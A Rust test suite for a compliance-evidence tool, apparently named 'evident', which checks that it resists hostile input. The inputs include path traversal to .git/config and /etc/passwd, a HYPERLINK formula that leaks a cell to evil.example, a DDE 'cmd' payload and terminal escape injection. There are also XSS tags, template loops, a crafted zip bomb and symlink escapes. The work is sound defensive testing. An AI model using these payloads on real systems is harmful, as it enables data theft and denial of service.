//! Hostile input: files and text written to leak, forge or hang. Each test
//! is the regression test of one class of attack.

use crate::support::*;

fn codes(run: &Run) -> Vec<String> {
    run.json()["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| format!("{} {}", d["code"].as_str().unwrap(), d["message"].as_str().unwrap()))
        .collect()
}

/// A state file of `mfa` whose evidence items are `paths`.
fn evidence_state(paths: &[&str]) -> String {
    let mut s = String::from(
        "[implementation]\nstatus = \"implemented\"\ndate = 2026-02-01\n\n[test]\nstatus = \"none\"\n",
    );
    for (i, p) in paths.iter().enumerate() {
        s.push_str(&format!(
            "\n[[evidence]]\nname = \"e{i}\"\npath = {}\nsha256 = \"{}\"\n",
            toml_string(p),
            "0".repeat(64)
        ));
    }
    s
}

fn toml_string(s: &str) -> String {
    format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""))
}

#[test]
fn git_internals_and_data_files_are_never_evidence_however_the_path_is_written() {
    let repo = minimal();
    repo.git_init();
    repo.git(&["config", "remote.origin.url", "https://user:SECRET-TOKEN@git.example.com/x.git"]);
    repo.write(".evident/journal.txt", "internal");
    repo.write("sub/.git/notes.txt", "nested git dir");
    repo.write("evidence/ok.txt", "fine");
    #[cfg(unix)]
    std::os::unix::fs::symlink("../.git/config", repo.path().join("evidence/config.txt")).unwrap();
    let internal = [
        ".git/config",
        "./.git/config",
        ".//.git/config",
        ".\\.git\\config",
        ".GIT/config",
        ".git./config",
        "sub/.git/notes.txt",
        ".evident/journal.txt",
        "./.Evident/journal.txt",
    ];
    let data = ["./evident.toml", "actions//mfa.toml", "./assessments/gdpr-2026/./mfa.toml", "EVIDENT.TOML"];
    let outside = ["evidence/../.git/config", "EVIDENCE/..", "evidence/../evident.toml", "/etc/passwd"];
    let mut paths: Vec<&str> = internal.iter().chain(&data).chain(&outside).copied().collect();
    if cfg!(unix) {
        paths.push("evidence/config.txt");
    }
    repo.write("assessments/gdpr-2026/mfa.toml", evidence_state(&paths));
    let run = repo.run(&["validate", "--format", "json"]);
    assert_eq!(run.code, 1, "{}", run.all());
    let found = codes(&run);
    let with = |code: &str| found.iter().filter(|d| d.starts_with(code)).count();
    let internal_count = internal.len() + usize::from(cfg!(unix));
    assert_eq!(with("E0409"), internal_count, "{found:#?}");
    assert_eq!(with("E0407"), data.len(), "{found:#?}");
    assert_eq!(with("E0401"), outside.len(), "{found:#?}");
    assert_eq!(found.len(), paths.len(), "one diagnostic per path, nothing else: {found:#?}");

    // The report never runs on such a repository, and nothing of `.git/` reaches its folder.
    let out = tempfile::tempdir().unwrap();
    let site = out.path().join("site");
    let report = repo.run(&["report", "--out", site.to_str().unwrap()]);
    assert_ne!(report.code, 0, "{}", report.all());
    for entry in walkdir::WalkDir::new(out.path()) {
        let entry = entry.unwrap();
        if entry.file_type().is_file() {
            let text = std::fs::read_to_string(entry.path()).unwrap_or_default();
            assert!(!text.contains("SECRET-TOKEN"), "{} leaks .git/config", entry.path().display());
        }
    }
}

#[test]
fn normalised_evidence_paths_inside_evidence_are_accepted_and_copied_once() {
    let repo = minimal();
    repo.write("evidence/ok.txt", "fine");
    let real = {
        use sha2::Digest;
        let d = sha2::Sha256::digest(b"fine");
        d.iter().map(|b| format!("{b:02x}")).collect::<String>()
    };
    repo.write(
        "assessments/gdpr-2026/mfa.toml",
        format!(
            "[implementation]\nstatus = \"implemented\"\ndate = 2026-02-01\n\n[test]\nstatus = \"none\"\n\n\
             [[evidence]]\nname = \"dotted\"\npath = \"./evidence//ok.txt\"\nsha256 = \"{real}\"\n"
        ),
    );
    let run = repo.run(&["validate"]);
    assert_eq!(run.code, 0, "{}", run.all());
    let out = tempfile::tempdir().unwrap();
    let site = out.path().join("site");
    let report = repo.run(&["report", "--format", "md", "--out", site.to_str().unwrap()]);
    assert_eq!(report.code, 0, "{}", report.all());
    assert_eq!(std::fs::read_to_string(site.join("files/evidence/ok.txt")).unwrap(), "fine");
}

#[test]
fn evidence_add_refuses_files_inside_git() {
    let repo = minimal();
    repo.git_init();
    repo.write(".git/notes.txt", "internal");
    let file = repo.path().join(".git/notes.txt");
    let run = repo.run(&["evidence", "add", "mfa", file.to_str().unwrap()]);
    assert_eq!(run.code, 2, "{}", run.all());
    assert!(run.stderr.contains("inside `.git/`"), "{}", run.all());
    assert!(!repo.path().join("evidence").exists(), "nothing copied");
}

#[test]
fn csv_exports_defuse_formulas_and_import_takes_the_quote_back() {
    let repo = minimal();
    let note = "=HYPERLINK(\"https://evil.example/?\"&A1, \"click\")";
    repo.write(
        "assessments/gdpr-2026/mfa.toml",
        format!(
            "owner = \"ana@example.com\"\n\n[implementation]\nstatus = \"implemented\"\ndate = 2026-02-01\nnotes = {}\n\n[test]\nstatus = \"none\"\nnotes = \"'-kept\"\n",
            toml_string(note)
        ),
    );
    repo.git_init();
    repo.commit("ana@example.com", "start");
    let state =
        repo.read("assessments/gdpr-2026/mfa.toml").replace("status = \"none\"", "status = \"in-progress\"");
    repo.write("assessments/gdpr-2026/mfa.toml", state);
    repo.git(&["add", "-A"]);
    repo.git(&["commit", "-q", "--author", "@evil <x@example.com>", "-m", "-cmd|' /C calc'!A0"]);
    let out = repo.path().join("actions.csv");
    let export = repo.run(&["export", "actions", "--format", "csv", "--out", out.to_str().unwrap()]);
    assert_eq!(export.code, 0, "{}", export.all());
    let text = std::fs::read_to_string(&out).unwrap();
    assert!(text.contains("\"'=HYPERLINK("), "{text}");
    assert!(text.contains(",''-kept"), "{text}");
    for cell in text.split([',', '\n']) {
        assert!(!cell.trim_start_matches('"').starts_with(['=', '+', '-', '@']), "{cell:?} in\n{text}");
    }
    let import = repo.run(&["import", "actions", out.to_str().unwrap()]);
    assert_eq!(import.code, 0, "{}", import.all());
    assert!(import.stderr.contains("No change"), "{}", import.all());

    let history = repo.run(&["export", "history", "--format", "csv"]);
    assert_eq!(history.code, 0, "{}", history.all());
    assert!(history.stdout.contains("'-cmd|"), "{}", history.stdout);
    assert!(!history.stdout.contains(",-cmd|"), "{}", history.stdout);
    assert!(history.stdout.contains(",'@evil,"), "{}", history.stdout);
}

/// Every way text reaches a terminal or Markdown: no raw control character
/// (ESC would let a note clear the screen, retitle the window or hide text).
#[test]
fn control_characters_never_reach_the_terminal_or_markdown() {
    let repo = minimal();
    let evil = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}31m";
    let toml_evil = "\\u001b]0;pwned\\u0007\\u001b[2J\\u009b31m";
    repo.write(
        "actions/mfa.toml",
        action_toml("mfa", "control-access", "preventative", true)
            .replace("title = \"Action mfa\"", &format!("title = \"MFA {toml_evil}\"")),
    );
    repo.git_init();
    repo.commit("ana@example.com", "start");
    repo.write(
        "assessments/gdpr-2026/mfa.toml",
        format!("owner = \"ana@example.com\"\n\n[implementation]\nstatus = \"implemented\"\ndate = 2026-02-01\nnotes = \"n {toml_evil}\"\n\n[test]\nstatus = \"in-progress\"\n"),
    );
    repo.git(&["add", "-A"]);
    repo.git(&[
        "commit",
        "-q",
        "--author",
        &format!("Mallory{evil} <m@example.com>"),
        "-m",
        &format!("msg{evil}"),
    ]);
    let summary_path = repo.path().join("summary.md");
    let summary_arg = summary_path.to_str().unwrap();
    let runs = [
        vec!["history"],
        vec!["history", "--format", "markdown"],
        vec!["list", "actions"],
        vec!["list", "actions", "--format", "markdown"],
        vec!["diff", "HEAD~1", "HEAD"],
        vec!["diff", "HEAD~1", "HEAD", "--format", "markdown"],
        vec!["check", "--base", "HEAD~1", "--summary", summary_arg],
        vec!["alerts", "--base", "HEAD~1"],
        vec!["alerts", "--base", "HEAD~1", "--format", "md"],
        vec!["validate"],
        vec!["score"],
    ];
    for args in runs {
        let run = repo.run(&args);
        assert_ne!(run.code, 2, "`evident {}`: {}", args.join(" "), run.all());
        for (stream, text) in [("stdout", &run.stdout), ("stderr", &run.stderr)] {
            assert!(
                !text.chars().any(|c| c.is_control() && c != '\n' && c != '\t'),
                "`evident {}` {stream} has a raw control character:\n{text:?}",
                args.join(" ")
            );
        }
    }
    let summary = repo.read("summary.md");
    assert!(summary.contains("Mallory") && !summary.contains('\u{1b}'), "{summary:?}");
    repo.remove("summary.md");
    // A diagnostic quoting user text (an unknown key) is made visible too.
    repo.write(
        "assessments/gdpr-2026/mfa.toml",
        format!("\"k{toml_evil}\" = 1\n[implementation]\nstatus = \"none\"\n[test]\nstatus = \"none\"\n"),
    );
    let run = repo.run(&["validate"]);
    assert_eq!(run.code, 1, "{}", run.all());
    assert!(!run.stderr.contains('\u{1b}') && run.stderr.contains('␛'), "{:?}", run.stderr);

    let history = repo.run(&["history"]);
    assert!(history.stdout.contains("Mallory␛]0;pwned␇␛[2J<U+009B>31m"), "{}", history.stdout);
}

/// report.md: no tag from user text, however it is written.
#[test]
fn the_markdown_report_carries_no_raw_html_from_user_text() {
    let repo = minimal();
    let action = action_toml("mfa", "control-access", "preventative", true)
        .replace("title = \"Action mfa\"", "title = \"MFA <b onmouseover=alert(1)>\"")
        + "guidance = '''\nSee \\<img src=x onerror=alert(1)> and <script>alert(2)</script>.\n\n<div onclick=\"x()\">block</div>\n\nUse `a < b` in code.\n'''\n";
    repo.write("actions/mfa.toml", action);
    repo.write(
        "assessments/gdpr-2026/mfa.toml",
        "owner = \"ana@example.com\"\n\n[implementation]\nstatus = \"implemented\"\ndate = 2026-02-01\nnotes = \"\\\\<img src=y onerror=alert(3)>\"\n\n[test]\nstatus = \"none\"\n",
    );
    let out = tempfile::tempdir().unwrap();
    let dir = out.path().join("md");
    let run = repo.run(&["report", "--format", "md", "--out", dir.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{}", run.all());
    let text = std::fs::read_to_string(dir.join("report.md")).unwrap();
    for tag in ["<img", "<script", "<div", "<b ", "\\<"] {
        assert!(!text.contains(tag), "report.md has `{tag}`:\n{text}");
    }
    assert!(text.contains("&lt;img src=x onerror=alert(1)>"), "{text}");
    assert!(text.contains("`a < b`"), "code is kept: {text}");
}

#[cfg(unix)]
#[test]
fn report_templates_may_not_link_out_of_their_folder() {
    let repo = minimal();
    let dir = tempfile::tempdir().unwrap();
    let templates = dir.path().join("templates");
    std::fs::create_dir(&templates).unwrap();
    let secret = dir.path().join("secret.txt");
    std::fs::write(&secret, "SECRET").unwrap();
    std::os::unix::fs::symlink(&secret, templates.join("style.css")).unwrap();
    let site = dir.path().join("site");
    let run =
        repo.run(&["report", "--out", site.to_str().unwrap(), "--templates", templates.to_str().unwrap()]);
    assert_eq!(run.code, 2, "{}", run.all());
    assert!(run.stderr.contains("outside the templates folder"), "{}", run.all());
    assert!(!site.exists(), "nothing written");

    // A link inside the folder is fine.
    std::fs::remove_file(templates.join("style.css")).unwrap();
    std::fs::write(templates.join("mine.css"), "body { color: red }").unwrap();
    std::os::unix::fs::symlink("mine.css", templates.join("style.css")).unwrap();
    let run =
        repo.run(&["report", "--out", site.to_str().unwrap(), "--templates", templates.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{}", run.all());
    assert_eq!(std::fs::read_to_string(site.join("assets/style.css")).unwrap(), "body { color: red }");
}

/// Runs `evident` with a deadline: a hang is a failure, not a stuck suite.
fn run_within(repo: &TestRepo, args: &[&str], limit: std::time::Duration) -> (Run, std::time::Duration) {
    use std::io::Read;
    let mut cmd = evident();
    cmd.arg("--repo").arg(repo.path()).args(args);
    cmd.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
    let start = std::time::Instant::now();
    let mut child = cmd.spawn().unwrap();
    let mut stdout = child.stdout.take().unwrap();
    let mut stderr = child.stderr.take().unwrap();
    let out = std::thread::spawn(move || {
        let mut s = String::new();
        let _ = stdout.read_to_string(&mut s);
        s
    });
    let err = std::thread::spawn(move || {
        let mut s = String::new();
        let _ = stderr.read_to_string(&mut s);
        s
    });
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if start.elapsed() > limit {
            let _ = child.kill();
            let _ = child.wait();
            panic!("`evident {}` did not finish within {limit:?}", args.join(" "));
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    };
    let elapsed = start.elapsed();
    let run =
        Run { stdout: out.join().unwrap(), stderr: err.join().unwrap(), code: status.code().unwrap_or(-1) };
    (run, elapsed)
}

#[test]
fn a_report_template_that_loops_for_ever_is_stopped_with_its_name() {
    let repo = minimal();
    let dir = tempfile::tempdir().unwrap();
    let cases = [
        (
            "loop",
            "{% for a in range(100000) %}{% for b in range(100000) %}{% for c in range(100000) %}{{ a }}{% endfor %}{% endfor %}{% endfor %}",
        ),
        (
            "empty-loop",
            "{% for a in range(100000) %}{% for b in range(100000) %}{% for c in range(100000) %}{% endfor %}{% endfor %}{% endfor %}",
        ),
        ("repeat", "{{ 'x' * 100000000000 }}"),
        (
            "grow",
            "{% set ns = namespace(s='x') %}{% for a in range(100) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s | length }}",
        ),
        ("recurse", "{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(0) }}"),
        ("include", "{% include \"report.md\" %}"),
    ];
    for (case, source) in cases {
        let templates = dir.path().join(case);
        std::fs::create_dir(&templates).unwrap();
        std::fs::write(templates.join("report.md"), source).unwrap();
        let out = dir.path().join(format!("out-{case}"));
        let (run, took) = run_within(
            &repo,
            &[
                "report",
                "--format",
                "md",
                "--out",
                out.to_str().unwrap(),
                "--templates",
                templates.to_str().unwrap(),
            ],
            std::time::Duration::from_secs(30),
        );
        assert_eq!(run.code, 2, "{case}: {}", run.all());
        assert!(run.stderr.contains("`report.md`"), "{case}: {}", run.all());
        assert!(took < std::time::Duration::from_secs(13), "{case}: took {took:?}");
        assert!(run.stderr.lines().count() < 5, "{case}: a short message: {}", run.all());
    }
}

/// A FIFO named like a data file would block `validate` for ever at its read.
#[cfg(unix)]
#[test]
fn a_fifo_named_like_a_data_file_is_reported_not_read() {
    let repo = minimal();
    for path in ["assessments/gdpr-2026/backup.toml", "templates/iso.toml", "actions/logs.toml"] {
        let status = std::process::Command::new("mkfifo").arg(repo.path().join(path)).status().unwrap();
        assert!(status.success());
    }
    for args in [vec!["validate", "--format", "json"], vec!["score"], vec!["list", "actions"]] {
        let (run, _) = run_within(&repo, &args, std::time::Duration::from_secs(20));
        assert_eq!(run.code, 1, "`{}`: {}", args.join(" "), run.all());
        if args[0] == "validate" {
            let found = codes(&run);
            assert_eq!(found.iter().filter(|d| d.starts_with("E0410")).count(), 3, "{found:#?}");
        }
    }
}

/// A template listing one action 10,000 times: one diagnostic with the count.
#[test]
fn a_repeated_id_is_reported_once_with_its_count() {
    let repo = minimal();
    let mfa: Vec<&str> = vec!["mfa"; 10_000];
    let mut template = template_toml("gdpr", &[("art-32", &mfa)]);
    for _ in 0..3 {
        template.push_str("\n[[controls]]\nid = \"art-33\"\ntitle = \"Again\"\nactions = [\"mfa\"]\n");
    }
    repo.write("templates/gdpr.toml", template);
    let evidence: String =
        (0..500).map(|_| "\n[[evidence]]\nname = \"same\"\nurl = \"https://e.example/x\"\n").collect();
    repo.write("assessments/gdpr-2026/mfa.toml", repo.read("assessments/gdpr-2026/mfa.toml") + &evidence);
    let (run, took) =
        run_within(&repo, &["validate", "--format", "json"], std::time::Duration::from_secs(60));
    assert_eq!(run.code, 1, "{}", run.all());
    let mut found = codes(&run);
    found.sort();
    assert_eq!(
        found,
        [
            "E0302 control `art-32` lists action `mfa` 10000 times",
            "E0302 control `art-33` is defined 3 times",
            "E0302 evidence `same` is listed 500 times",
        ],
        "{found:#?}"
    );
    let (human, _) = run_within(&repo, &["validate"], std::time::Duration::from_secs(60));
    // The one-line array of 10,000 ids is quoted once (it was quoted 10,000 times).
    assert!(human.stderr.len() < 200_000, "{} bytes of output", human.stderr.len());
    assert!(took < std::time::Duration::from_secs(20), "took {took:?}");
}

/// Many distinct problems in one file: each costs a lookup, not a parse of the file.
#[test]
fn many_diagnostics_in_one_file_take_linear_time() {
    let repo = minimal();
    let unknown: String = (0..5000).map(|i| format!("  \"x{i}\",\n")).collect();
    let template = template_toml("gdpr", &[("art-32", &["mfa"])])
        .replace("[\"mfa\"]", &format!("[\n  \"mfa\",\n{unknown}]"));
    repo.write("templates/gdpr.toml", template);
    let (run, took) = run_within(&repo, &["validate"], std::time::Duration::from_secs(120));
    assert_eq!(run.code, 1, "{}", run.all());
    assert!(run.stderr.contains("5000 errors"), "{}", &run.stderr[run.stderr.len().saturating_sub(300)..]);
    assert!(took < std::time::Duration::from_secs(20), "took {took:?}");
}

/// An XLSX whose shared strings claim to inflate to 3 GiB: refused before
/// the spreadsheet reader allocates anything (it aborted the process).
#[test]
fn an_xlsx_zip_bomb_is_refused_with_exit_2() {
    use std::io::Write;
    let repo = minimal();
    let path = repo.path().join("bomb.xlsx");
    let mut zip = zip::ZipWriter::new(std::fs::File::create(&path).unwrap());
    let options =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    zip.start_file("xl/sharedStrings.xml", options).unwrap();
    let size = 1usize << 20;
    zip.write_all(&vec![b'a'; size]).unwrap();
    zip.finish().unwrap();
    // Declare 3 GiB in the local header and the central directory.
    let mut bytes = std::fs::read(&path).unwrap();
    let declared = (size as u32).to_le_bytes();
    let mut patched = 0;
    for at in 0..bytes.len() - 4 {
        if bytes[at..at + 4] == declared {
            bytes[at..at + 4].copy_from_slice(&(3u32 << 30).to_le_bytes());
            patched += 1;
        }
    }
    assert_eq!(patched, 2);
    std::fs::write(&path, &bytes).unwrap();
    assert!(bytes.len() < 10_000, "small on disk: {}", bytes.len());
    let before = repo.snapshot_files();
    let run = repo.run(&["import", "actions", path.to_str().unwrap()]);
    assert_eq!(run.code, 2, "{}", run.all());
    assert!(
        run.stderr.contains("`xl/sharedStrings.xml`") && run.stderr.contains("is refused"),
        "{}",
        run.all()
    );
    assert_eq!(repo.snapshot_files(), before);
}

/// A data folder, or one assessment's folder, that is a symbolic link to a
/// folder outside the repository: refused, and nothing is read through it.
#[cfg(unix)]
#[test]
fn a_data_folder_that_is_a_link_out_of_the_repository_is_not_followed() {
    for folder in ["actions", "templates", "assessments", "assessments/gdpr-2026"] {
        let repo = minimal();
        let outside = tempfile::tempdir().unwrap();
        let target = outside.path().join("data");
        std::fs::rename(repo.path().join(folder), &target).unwrap();
        // A file that only the link leads to: its problem would show if it were read.
        std::fs::write(target.join("leak.toml"), "id = \"SECRET-OUTSIDE\"\n").unwrap();
        std::os::unix::fs::symlink(&target, repo.path().join(folder)).unwrap();
        let run = repo.run(&["validate", "--format", "json"]);
        assert_eq!(run.code, 1, "{folder}: {}", run.all());
        let found = codes(&run);
        let code = if folder.contains('/') { "E0107" } else { "E0110" };
        let expected = format!(
            "{code} `{folder}` is a symbolic link; evident does not follow links out of the repository, so nothing in it is read"
        );
        assert!(found.contains(&expected), "{folder}: {found:#?}");
        assert!(
            !run.stdout.contains("SECRET-OUTSIDE") && !run.stdout.contains("leak"),
            "{folder}: {found:#?}"
        );
        let human = repo.run(&["validate"]);
        assert_eq!(human.code, 1, "{folder}: {}", human.all());
        assert!(!human.all().contains("SECRET-OUTSIDE"), "{}", human.all());
    }
}

/// 3,000 distinct unknown ids in a one-line array: each diagnostic shows a
/// window of the line around its id, not the whole line (90 MB of output).
#[test]
fn a_diagnostic_on_a_very_long_line_shows_a_window_of_it() {
    let repo = minimal();
    let unknown: Vec<String> = (0..3000).map(|i| format!("unknown-{i:04}")).collect();
    let ids: Vec<&str> = std::iter::once("mfa").chain(unknown.iter().map(String::as_str)).collect();
    repo.write("templates/gdpr.toml", template_toml("gdpr", &[("art-32", &ids)]));
    let line = repo.read("templates/gdpr.toml").lines().position(|l| l.starts_with("actions")).unwrap() + 1;
    let (run, _) = run_within(&repo, &["validate"], std::time::Duration::from_secs(120));
    assert_eq!(run.code, 1, "{}", &run.stderr[..2000.min(run.stderr.len())]);
    assert!(run.stderr.contains("3000 errors"), "{}", &run.stderr[run.stderr.len().saturating_sub(300)..]);
    assert!(run.stderr.len() < 2_000_000, "{} bytes of output", run.stderr.len());
    for l in run.stderr.lines() {
        assert!(l.chars().count() < 250, "a short snippet line: {l}");
    }
    // The header and the underline point at the id itself.
    let last = &unknown[2999];
    let column = repo.read("templates/gdpr.toml").lines().nth(line - 1).unwrap().find(last.as_str()).unwrap();
    let at = format!("templates/gdpr.toml:{line}:{column}");
    let block = run.stderr.split("error[").find(|b| b.contains(&format!("`{last}`"))).unwrap();
    assert!(block.contains(&at), "{at} in {block}");
    let source = block.lines().find(|l| l.contains(&format!("\"{last}\""))).unwrap();
    let underline = block.lines().skip_while(|l| *l != source).nth(1).unwrap();
    let quote = source[..source.find(&format!("\"{last}\"")).unwrap()].chars().count();
    assert_eq!(underline.chars().position(|c| c == '^'), Some(quote), "{source}\n{underline}");
    assert!(source.contains('…'), "{source}");
    for format in ["json", "github", "sarif"] {
        let (run, _) =
            run_within(&repo, &["validate", "--format", format], std::time::Duration::from_secs(120));
        // About 700 bytes a result in SARIF; the line itself is 50 kB.
        assert!(run.stdout.len() < 4_000_000, "{format}: {} bytes", run.stdout.len());
        let quoted = run.stdout.matches("unknown-1500").count();
        assert!(quoted < 10, "{format} names the id, never quotes the line: {quoted} times");
    }
}

#[test]
fn a_commit_dated_at_the_end_of_time_is_shown_without_a_date_not_a_crash() {
    // git takes any number of seconds in a commit it did not write itself. Adding the author's
    // offset to `i64::MAX` overflowed: debug builds panicked (exit 101) and release builds sorted
    // the commit before every other in the report's trends.
    let repo = minimal();
    repo.git_init();
    repo.commit("ana@example.com", "start");
    let tree = repo.git(&["rev-parse", "HEAD^{tree}"]);
    let parent = repo.git(&["rev-parse", "HEAD"]);
    let forged = format!(
        "tree {tree}\nparent {parent}\nauthor Eve <eve@example.com> 9223372036854775807 +1400\ncommitter Eve <eve@example.com> 9223372036854775807 +1400\n\nthe end of time\n"
    );
    let path = repo.path().join("forged-commit");
    std::fs::write(&path, forged).unwrap();
    let id = repo.git(&["hash-object", "-t", "commit", "-w", "--literally", path.to_str().unwrap()]);
    std::fs::remove_file(&path).unwrap();
    repo.git(&["update-ref", "refs/heads/main", &id]);
    let out = tempfile::tempdir().unwrap();
    let report = out.path().join("site");
    let xlsx = out.path().join("history.xlsx");
    for args in [
        &["history", "--scores"][..],
        &["audit"],
        &["report", "--out", report.to_str().unwrap()],
        &["export", "history", "--out", xlsx.to_str().unwrap()],
    ] {
        let run = repo.run(args);
        assert!(matches!(run.code, 0 | 1), "{args:?}: {}", run.all());
    }
}
